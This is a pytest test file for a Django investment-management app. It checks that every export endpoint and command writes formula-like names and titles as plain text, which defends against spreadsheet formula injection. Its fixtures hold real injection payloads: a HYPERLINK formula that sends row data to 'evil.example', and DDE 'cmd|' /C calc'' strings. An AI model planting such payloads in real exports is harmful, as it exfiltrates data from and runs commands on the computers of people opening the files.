"""No exported cell is a formula: every export endpoint and command, fed names and titles that are formulas.

A project title like ``=HYPERLINK("http://evil.example/?a="&A1,"点我")`` was written by the dashboard's case
export as a live formula (issue 14, item 1): a manager opening the workbook and clicking it would send the
row to whoever typed it. Every export now goes through invest.exporting; this test walks every export URL in
the URLconf (and fails when a new one appears that it does not know) and both export commands.
"""

from __future__ import annotations

import csv
import io
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from invest.audit import audit
from tests.factories.applications import ApplicationFactory
from tests.factories.companies import CompanyFactory, UserFactory
from tests.factories.investment import LeadFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?a="&A1,"点我")'
FORMULAS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]

#: Every export endpoint by URL name, with how to fetch it. A new export must be added here.
EXPORT_URLS = {
    "portal:export": "GET",
    "investment:export": "GET",
    "admin:companies_company_export": "ADMIN_EXPORT",
    "statistics:export": "GET",
    "auditlog:export": "GET",
}


def _walk(patterns, namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _walk(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", str(pattern.pattern)


def _looks_like_an_export(name: str, route: str) -> bool:
    name, route = name.lower(), route.lower().rstrip("/$")
    return name.endswith(("export", "xlsx", "csv")) or route.endswith(("export", ".xlsx", ".csv", "xlsx", "csv"))


def test_every_export_endpoint_is_listed_here():
    found = {name for name, route in _walk(get_resolver().url_patterns) if _looks_like_an_export(name, route)}
    assert found == set(EXPORT_URLS), "an export URL was added or removed: list it in EXPORT_URLS and check it"


@pytest.fixture
def evil_world():
    # the district too: the statistics export names each district of registration
    companies = [
        CompanyFactory(name=text, legal_representative=text, registered_address=text, registration_district=text)
        for text in FORMULAS
    ]
    for company, text in zip(companies, FORMULAS, strict=True):
        ApplicationFactory(company=company, project_title=text, submitted=True)
        LeadFactory(name=text, lost_reason=text)
    manager = UserFactory(username="export-manager", roles=["manager"], is_staff=True, is_superuser=True)
    for text in FORMULAS:  # what the audit log's export shows as it was written: a reason someone typed
        audit(manager, "case.update", ("applications.application", 0), reason=text)
    return manager


def _fetch(client, name: str, how: str) -> bytes:
    url = reverse(name)
    if how == "GET":
        response = client.get(url)
    else:  # the admin's export form: every field, first format (XLSX)
        form = client.get(url).context["form"]
        data = {field: "on" for field, f in form.fields.items() if f.__class__.__name__ == "BooleanField"}
        data["format"] = "0"
        response = client.post(url, data)
    assert response.status_code == 200, (name, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_formula(data: bytes, what: str) -> int:
    """No cell of the workbook or CSV is a formula; returns how many of the formula-like texts it held."""
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for entry in archive.namelist():
                if entry.startswith("xl/worksheets/"):
                    xml = archive.read(entry)
                    assert b"<f>" not in xml and b"<f " not in xml, f"{what}: {entry} holds a formula"
        book = load_workbook(io.BytesIO(data))
        values = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{what}: {sheet.title}!{cell.coordinate} is a formula {cell.value!r}"
                    values.append(cell.value)
    else:
        values = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
    for value in values:
        if isinstance(value, str) and value:
            assert value[0] not in "=+-@\t\r", f"{what}: a cell starts like a formula: {value!r}"
    # XML readers turn a carriage return into a line feed.
    values = {v.replace("\r", "\n") for v in values if isinstance(v, str)}
    return sum(1 for text in FORMULAS if "'" + text.replace("\r", "\n") in values)


@pytest.mark.parametrize("name", sorted(EXPORT_URLS))
def test_export_endpoint_writes_formulas_as_text(client, evil_world, name):
    client.force_login(evil_world)
    data = _fetch(client, name, EXPORT_URLS[name])
    assert assert_no_formula(data, name) == len(FORMULAS), f"{name}: the test data is not in the export"


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_export_companies_command_writes_formulas_as_text(evil_world, tmp_path, suffix):
    out = tmp_path / f"companies.{suffix}"
    call_command("export_companies", str(out), stdout=StringIO())
    assert assert_no_formula(out.read_bytes(), "export_companies") == len(FORMULAS)


def test_import_report_of_rejected_rows_writes_formulas_as_text(tmp_path):
    source = tmp_path / "bad.csv"
    source.write_text(
        "统一社会信用代码,企业名称,=cmd|' /C calc'!A0\n"
        + "".join(f'not-a-code,"{t.replace(chr(34), chr(34) * 2)}",x\n' for t in FORMULAS),
        encoding="utf-8",
    )
    report = tmp_path / "report.csv"
    with pytest.raises(SystemExit):  # every row is wrong: nothing imported, the report says why
        call_command("import_companies", str(source), "--report", str(report), stdout=StringIO(), stderr=StringIO())
    data = report.read_bytes()
    assert assert_no_formula(data, "import report") == len(FORMULAS)
    assert "'=cmd|" in data.decode("utf-8-sig")  # the file's own heading, written back as text
